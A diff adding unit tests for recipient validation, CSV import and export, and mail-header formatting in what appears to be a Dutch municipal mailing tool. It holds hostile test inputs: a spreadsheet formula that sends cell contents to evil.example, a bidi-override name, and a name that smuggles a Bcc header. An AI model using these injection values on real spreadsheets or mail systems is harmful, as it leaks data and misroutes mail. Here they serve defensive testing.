@@ -3,7 +3,10 @@ import { ImportRejectedError } from '../../functions/core/csv-reader';
 import type { Municipality, Recipient } from '../../functions/core/organisation';
 import {
   type RecipientInput,
+  type RecipientProblem,
   checkRecipient,
+  describeRecipient,
+  describeRecipientProblem,
   formatMailbox,
   planRecipientList,
   readRecipientCsv,
@@ -40,6 +43,20 @@ describe('a recipient is checked before it is stored', () => {
     expect(checkRecipient(jan({ name }), municipalities)).toEqual({ problems: [{ field: 'naam', message: expect.stringContaining('de naam bevat een regeleinde of een ander stuurteken') }] });
   });
 
+  it.each([
+    ['U+001F (the last C0 control)', 'Jan\u001fJansen'],
+    ['DEL', 'Jan\u007fJansen'],
+    ['U+0080 (a C1 control)', 'Jan\u0080Jansen'],
+    ['U+009F (the last C1 control)', 'Jan\u009fJansen'],
+    ['a Unicode paragraph separator', 'Jan\u2029Jansen'],
+  ])('rejects a name with %s', (_, name) => {
+    expect(checkRecipient(jan({ name }), municipalities)).toEqual({ problems: [{ field: 'naam', message: 'de naam bevat een regeleinde of een ander stuurteken; haal dat weg' }] });
+  });
+
+  it('accepts a name with a space, a no-break space or a letter just past the controls', () => {
+    expect(checkRecipient(jan({ name: 'Jan\u00a0Jansen ¡' }), municipalities)).toEqual({ recipient: { municipality: 'Tiel', role: 'ab-lid', name: 'Jan\u00a0Jansen ¡', email: 'jan@tiel.example' } });
+  });
+
   it.each(['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'])('rejects a name with the bidi control U+%s', (char) => {
     expect(checkRecipient(jan({ name: `Jan${char}nesnaJ` }), municipalities)).toEqual({ problems: [{ field: 'naam', message: expect.stringContaining('leesrichting') }] });
   });
@@ -60,6 +77,35 @@ describe('a recipient is checked before it is stored', () => {
     expect(checkRecipient(jan({ email: 'jan at tiel' }), municipalities)).toEqual({
       problems: [{ field: 'email', message: '"jan at tiel" is geen geldig e-mailadres; schrijf het als naam@gemeente.nl' }],
     });
+  });
+
+  it('shows a long wrong address cut at 80 characters, and one of 80 whole', () => {
+    const long = `${'a'.repeat(81)} at tiel`;
+    const eighty = `${'b'.repeat(72)} at tiel`;
+    expect(checkRecipient(jan({ email: long }), municipalities)).toEqual({
+      problems: [{ field: 'email', message: `"${'a'.repeat(80)}…" is geen geldig e-mailadres; schrijf het als naam@gemeente.nl` }],
+    });
+    expect(checkRecipient(jan({ email: eighty }), municipalities)).toEqual({
+      problems: [{ field: 'email', message: `"${eighty}" is geen geldig e-mailadres; schrijf het als naam@gemeente.nl` }],
+    });
+  });
+
+  it('says the role is empty, also when it is only spaces, and lists the roles to choose from', () => {
+    const problem: RecipientProblem = { field: 'rol', message: 'de rol is leeg', validValues: ['ab-lid', 'beleidsmedewerker', 'reviewer'] };
+    expect(checkRecipient(jan({ role: '' }), municipalities)).toEqual({ problems: [problem] });
+    expect(checkRecipient(jan({ role: '   ' }), municipalities)).toEqual({ problems: [problem] });
+    expect(describeRecipientProblem(problem)).toBe('de rol is leeg; kies ab-lid, beleidsmedewerker of reviewer');
+    expect(describeRecipientProblem({ field: 'naam', message: 'de naam is leeg' })).toBe('de naam is leeg');
+  });
+
+  it('quotes an unknown role without the spaces around it, and asks no municipality of it', () => {
+    expect(checkRecipient(jan({ role: ' wethouder ', municipality: null }), municipalities)).toEqual({
+      problems: [{ field: 'rol', message: '"wethouder" is geen rol', validValues: ['ab-lid', 'beleidsmedewerker', 'reviewer'] }],
+    });
+  });
+
+  it('takes a municipality of only spaces as empty', () => {
+    expect(checkRecipient(jan({ municipality: '   ' }), municipalities)).toEqual({ problems: [{ field: 'gemeente', message: 'de gemeente is leeg; een ab-lid hoort bij een gemeente' }] });
   });
 
   it('accepts a known municipality and a role in any case and normalises name and address', () => {
@@ -134,6 +180,11 @@ describe('the recipient CSV file is read as a whole', () => {
     expect(error.message).toContain('rij 4, kolom email: jan@tiel.example staat al op rij 2 voor Tiel');
   });
 
+  it('names a reviewer address given twice', async () => {
+    const error = await rejection(bytes(`${header};reviewer;Kees;kees@werkzaak.example\r\n;reviewer;K. de Vries;Kees@Werkzaak.example\r\n`));
+    expect(error.message.split('\n').slice(1)).toEqual(['  rij 3, kolom email: kees@werkzaak.example staat al op rij 2 voor de reviewers; houd er één van over']);
+  });
+
   it('refuses formula names and bidi characters, and lists every valid municipality and role once', async () => {
     const csv = `${header}Tiel;ab-lid;"=HYPERLINK(""http://evil.example/?x=""&A1;""klik"")";jan@tiel.example\r\nTiel;ab-lid;@SUM(1+1);piet@tiel.example\r\nUtrecht;wethouder;Kees\u202eteeK;kees@tiel.example\r\n`;
     const error = await rejection(bytes(csv));
@@ -160,7 +211,46 @@ describe('the recipient CSV file is read as a whole', () => {
   });
 });
 
+describe('the recipient list as a file', () => {
+  it('sorts by municipality, then role, then address, with the reviewers last', () => {
+    const list: Recipient[] = [
+      { municipality: null, role: 'reviewer', name: 'Kees', email: 'kees@werkzaak.example' },
+      { municipality: 'West Betuwe', role: 'beleidsmedewerker', name: 'Wim', email: 'wim@wb.example' },
+      { municipality: 'Tiel', role: 'beleidsmedewerker', name: 'Bea', email: 'bea@tiel.example' },
+      { municipality: 'Tiel', role: 'ab-lid', name: 'Piet', email: 'piet@tiel.example' },
+      { municipality: 'Tiel', role: 'ab-lid', name: 'Jan', email: 'jan@tiel.example' },
+      { municipality: 'Buren', role: 'beleidsmedewerker', name: 'Ali', email: 'ali@buren.example' },
+      { municipality: null, role: 'reviewer', name: 'Anna', email: 'anna@werkzaak.example' },
+    ];
+    expect(recipientsToCsv(list)).toBe(
+      [
+        '\uFEFFgemeente;rol;naam;email',
+        'Buren;beleidsmedewerker;Ali;ali@buren.example',
+        'Tiel;ab-lid;Jan;jan@tiel.example',
+        'Tiel;ab-lid;Piet;piet@tiel.example',
+        'Tiel;beleidsmedewerker;Bea;bea@tiel.example',
+        'West Betuwe;beleidsmedewerker;Wim;wim@wb.example',
+        ';reviewer;Anna;anna@werkzaak.example',
+        ';reviewer;Kees;kees@werkzaak.example',
+        '',
+      ].join('\r\n'),
+    );
+  });
+
+  it('describes a recipient on one line for an operator', () => {
+    expect(describeRecipient({ municipality: 'Tiel', role: 'ab-lid', name: 'Jan Jansen', email: 'jan@tiel.example' })).toBe('Jan Jansen <jan@tiel.example> (Tiel, ab-lid)');
+    expect(describeRecipient({ municipality: null, role: 'reviewer', name: 'Kees', email: 'kees@werkzaak.example' })).toBe('Kees <kees@werkzaak.example> (reviewers, reviewer)');
+  });
+});
+
 describe('an import compared with the list', () => {
+  it('counts a recipient with the same name and role as unchanged, and a new role as a change', () => {
+    const jan: Recipient = { municipality: 'Tiel', role: 'ab-lid', name: 'Jan', email: 'jan@tiel.example' };
+    const piet: Recipient = { municipality: 'Tiel', role: 'ab-lid', name: 'Piet', email: 'piet@tiel.example' };
+    const plan = planRecipientList([jan, piet], [jan, { ...piet, role: 'beleidsmedewerker' }]);
+    expect(plan).toEqual({ added: [], changed: [{ before: piet, after: { ...piet, role: 'beleidsmedewerker' } }], removed: [], unchanged: 1 });
+  });
+
   it('says who is added, changed and removed', () => {
     const jan: Recipient = { municipality: 'Tiel', role: 'ab-lid', name: 'Jan', email: 'jan@tiel.example' };
     const piet: Recipient = { municipality: 'Tiel', role: 'ab-lid', name: 'Piet', email: 'piet@tiel.example' };
@@ -174,5 +264,7 @@ describe('a mailbox header', () => {
   it('quotes the name and drops quotes, backslashes and control characters from it', () => {
     expect(formatMailbox('Jan "de" \\Jansen\r\n', 'jan@tiel.example')).toBe('"Jan de Jansen" <jan@tiel.example>');
     expect(formatMailbox(undefined, 'jan@tiel.example')).toBe('jan@tiel.example');
+    expect(formatMailbox('  Jan\r\nBcc: x\u202e  ', 'jan@tiel.example')).toBe('"JanBcc: x" <jan@tiel.example>');
+    expect(formatMailbox('\r\n', 'jan@tiel.example')).toBe('jan@tiel.example');
   });
 });
